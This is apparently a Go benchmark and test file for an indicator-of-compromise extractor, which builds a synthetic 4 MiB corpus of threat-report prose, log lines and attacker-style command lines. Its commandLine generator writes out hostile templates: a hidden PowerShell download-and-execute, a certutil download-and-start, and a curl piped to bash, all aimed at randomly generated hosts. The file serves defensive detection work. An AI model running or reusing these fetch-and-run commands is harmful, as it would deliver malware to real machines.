package ioc

import (
	"fmt"
	"math/rand/v2"
	"regexp"
	"strings"
	"sync"
	"testing"
)

// benchCorpus is a deterministic, realistic mix of threat-report prose,
// log lines and command lines of at least 4 MiB.
var benchCorpus = sync.OnceValue(func() string { return buildCorpus(4 << 20) })

// corpusGen produces the pieces of the benchmark text from a fixed seed.
type corpusGen struct {
	rng *rand.Rand
	b   strings.Builder
}

var (
	benchWords = strings.Fields(`the actor operator campaign implant loader payload beacon persistence
		privilege escalation lateral movement credential dumping exfiltration staging infrastructure
		observed analysts identified during investigation endpoint telemetry revealed scheduled task
		registry run key service installed encrypted channel command and control server domain fronting
		spearphishing attachment macro document victims organisations sector government finance healthcare
		between weeks following initial access through vulnerable appliance exploited unpatched version
		process injection hollowing reflective module memory resident evasion obfuscated script stage
		archive password protected sample compiled timestamp overlap cluster attribution moderate confidence
		we assess that this activity is consistent with previously reported operations of the group`)
	benchTLDs  = []string{"com", "net", "org", "info", "ru", "top", "xyz", "io", "co.uk", "de", "online", "site"}
	benchNames = []string{"update", "cdn", "secure", "login", "mail", "portal", "cloud", "sync", "api", "static", "files", "telemetry"}
	benchFiles = []string{"update.exe", "invoice.pdf", "readme.md", "payload.ps1", "setup.msi", "archive.zip", "run.py", "stage2.dll"}
)

func buildCorpus(size int) string {
	g := &corpusGen{rng: rand.New(rand.NewPCG(20250301, 42))}
	g.b.Grow(size + 8192)
	for g.b.Len() < size {
		switch k := g.rng.IntN(10); {
		case k < 5:
			g.paragraph()
		case k < 8:
			g.logLines()
		default:
			g.commandLine()
		}
	}
	return g.b.String()
}

func (g *corpusGen) pick(l []string) string { return l[g.rng.IntN(len(l))] }

func (g *corpusGen) publicIP() string {
	return fmt.Sprintf("%d.%d.%d.%d", 11+g.rng.IntN(180), g.rng.IntN(256), g.rng.IntN(256), 1+g.rng.IntN(254))
}

func (g *corpusGen) domain() string {
	return fmt.Sprintf("%s-%s%d.%s", g.pick(benchNames), g.pick(benchNames), g.rng.IntN(100), g.pick(benchTLDs))
}

func (g *corpusGen) hex(n int) string {
	const digits = "0123456789abcdef"
	b := make([]byte, n)
	for i := range b {
		b[i] = digits[g.rng.IntN(16)]
	}
	return string(b)
}

func (g *corpusGen) guid() string {
	h := g.hex(32)
	return h[:8] + "-" + h[8:12] + "-" + h[12:16] + "-" + h[16:20] + "-" + h[20:]
}

func defang(s string) string { return strings.ReplaceAll(s, ".", "[.]") }

// indicator returns one indicator in a form a report would use.
func (g *corpusGen) indicator() string {
	switch g.rng.IntN(12) {
	case 0:
		return g.publicIP()
	case 1:
		return defang(g.publicIP())
	case 2:
		return g.domain()
	case 3:
		return defang(g.domain())
	case 4:
		return "hxxps://" + defang(g.domain()) + "/" + g.pick(benchNames) + "/" + g.pick(benchFiles)
	case 5:
		return "https://" + g.domain() + "/" + g.pick(benchNames) + "?id=" + g.hex(8)
	case 6:
		return g.hex(64)
	case 7:
		return strings.ToUpper(g.hex(32))
	case 8:
		return g.hex(40)
	case 9:
		return fmt.Sprintf("CVE-%d-%d", 2018+g.rng.IntN(8), 1000+g.rng.IntN(50000))
	case 10:
		return fmt.Sprintf("%s [at] %s", g.pick(benchNames), defang(g.domain()))
	default:
		return fmt.Sprintf("2a01:4f8:%x:%x::%x", g.rng.IntN(0xffff), g.rng.IntN(0xffff), 1+g.rng.IntN(0xfff))
	}
}

func (g *corpusGen) paragraph() {
	sentences := 3 + g.rng.IntN(6)
	for s := 0; s < sentences; s++ {
		words := 12 + g.rng.IntN(18)
		for w := 0; w < words; w++ {
			if w > 0 {
				g.b.WriteByte(' ')
			}
			if g.rng.IntN(40) == 0 {
				g.b.WriteString(g.indicator())
			} else {
				word := g.pick(benchWords)
				if w == 0 {
					word = strings.ToUpper(word[:1]) + word[1:]
				}
				g.b.WriteString(word)
			}
			if g.rng.IntN(60) == 0 {
				g.b.WriteString(" (version " + fmt.Sprintf("%d.%d.%d", g.rng.IntN(12), g.rng.IntN(30), g.rng.IntN(9000)) + ")")
			}
		}
		g.b.WriteString(". ")
	}
	g.b.WriteString("\n\n")
}

func (g *corpusGen) timestamp() string {
	return fmt.Sprintf("2025-03-%02dT%02d:%02d:%02d.%03d+00:00", 1+g.rng.IntN(28), g.rng.IntN(24), g.rng.IntN(60), g.rng.IntN(60), g.rng.IntN(1000))
}

func (g *corpusGen) privateIP() string {
	return fmt.Sprintf("10.%d.%d.%d", g.rng.IntN(256), g.rng.IntN(256), 1+g.rng.IntN(254))
}

func (g *corpusGen) logLines() {
	n := 2 + g.rng.IntN(8)
	for i := 0; i < n; i++ {
		switch g.rng.IntN(3) {
		case 0:
			fmt.Fprintf(&g.b, "%s WKS-%03d Microsoft-Windows-Sysmon/Operational EventID=3 ProcessGuid={%s} ProcessId=%d "+
				`Image=C:\Windows\System32\svchost.exe FileVersion=10.0.19041.%d SourceIp=%s SourcePort=%d DestinationIp=%s DestinationPort=443 `+
				"Hashes=SHA256=%s\n",
				g.timestamp(), g.rng.IntN(500), g.guid(), g.rng.IntN(65535), g.rng.IntN(5000), g.privateIP(), 49152+g.rng.IntN(16000), g.publicIP(), strings.ToUpper(g.hex(64)))
		case 1:
			fmt.Fprintf(&g.b, "Mar %2d %02d:%02d:%02d fw01 kernel: DROP IN=eth0 OUT= MAC=00:1a:2b:%02x:%02x:%02x SRC=%s DST=%s LEN=60 TTL=%d PROTO=TCP SPT=%d DPT=22\n",
				1+g.rng.IntN(28), g.rng.IntN(24), g.rng.IntN(60), g.rng.IntN(60), g.rng.IntN(256), g.rng.IntN(256), g.rng.IntN(256),
				g.publicIP(), g.privateIP(), 32+g.rng.IntN(100), 1024+g.rng.IntN(60000))
		default:
			fmt.Fprintf(&g.b, `%s - - [01/Mar/2025:%02d:%02d:%02d +0000] "GET /%s/%s HTTP/1.1" %d %d "https://%s/" "Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/124.0.6367.%d"`+"\n",
				g.publicIP(), g.rng.IntN(24), g.rng.IntN(60), g.rng.IntN(60), g.pick(benchNames), g.pick(benchFiles),
				200+g.rng.IntN(300), g.rng.IntN(100000), g.domain(), g.rng.IntN(200))
		}
	}
}

func (g *corpusGen) commandLine() {
	switch g.rng.IntN(3) {
	case 0:
		fmt.Fprintf(&g.b, `powershell.exe -NoP -W Hidden -Exec Bypass -C "IEX (New-Object System.Net.WebClient).DownloadString('hxxp://%s/%s')"`+"\n",
			defang(g.publicIP()), g.pick(benchFiles))
	case 1:
		fmt.Fprintf(&g.b, `cmd.exe /c certutil -urlcache -split -f https://%s/%s C:\Users\Public\%s && start C:\Users\Public\%s`+"\n",
			g.domain(), g.pick(benchFiles), g.pick(benchFiles), g.pick(benchFiles))
	default:
		fmt.Fprintf(&g.b, "curl -sk https://%s:%d/%s | bash -s -- --id %s\n", g.domain(), 8000+g.rng.IntN(1000), g.pick(benchFiles), g.guid())
	}
}

func BenchmarkExtract(b *testing.B) {
	text := benchCorpus()
	b.SetBytes(int64(len(text)))
	b.ReportAllocs()
	b.ResetTimer()
	var n int
	for i := 0; i < b.N; i++ {
		n = Extract(text).Len()
	}
	b.ReportMetric(float64(n), "indicators")
}

// BenchmarkExtractBaseline measures lower bounds over the same text: one
// strings.ToLower pass (touches and copies every byte) and one scan with a
// single simple regular expression.
func BenchmarkExtractBaseline(b *testing.B) {
	text := benchCorpus()
	b.Run("ToLower", func(b *testing.B) {
		b.SetBytes(int64(len(text)))
		for i := 0; i < b.N; i++ {
			_ = strings.ToLower(text)
		}
	})
	b.Run("RegexpIPv4", func(b *testing.B) {
		re := regexp.MustCompile(`\b\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3}\b`)
		b.SetBytes(int64(len(text)))
		for i := 0; i < b.N; i++ {
			_ = re.FindAllStringIndex(text, -1)
		}
	})
}

func TestBenchCorpus(t *testing.T) {
	if testing.Short() {
		t.Skip("builds a 4 MiB text")
	}
	text := benchCorpus()
	if len(text) < 4<<20 {
		t.Fatalf("corpus is %d bytes", len(text))
	}
	s := Extract(text)
	checkSetInvariants(t, s)
	t.Logf("corpus %d bytes: %d indicators (%d ipv4, %d ipv6, %d private, %d domains, %d urls, %d emails, %d md5, %d sha1, %d sha256, %d cves)",
		len(text), s.Len(), len(s.IPv4), len(s.IPv6), len(s.PrivateIPs), len(s.Domains), len(s.URLs), len(s.Emails), len(s.MD5), len(s.SHA1), len(s.SHA256), len(s.CVEs))
}
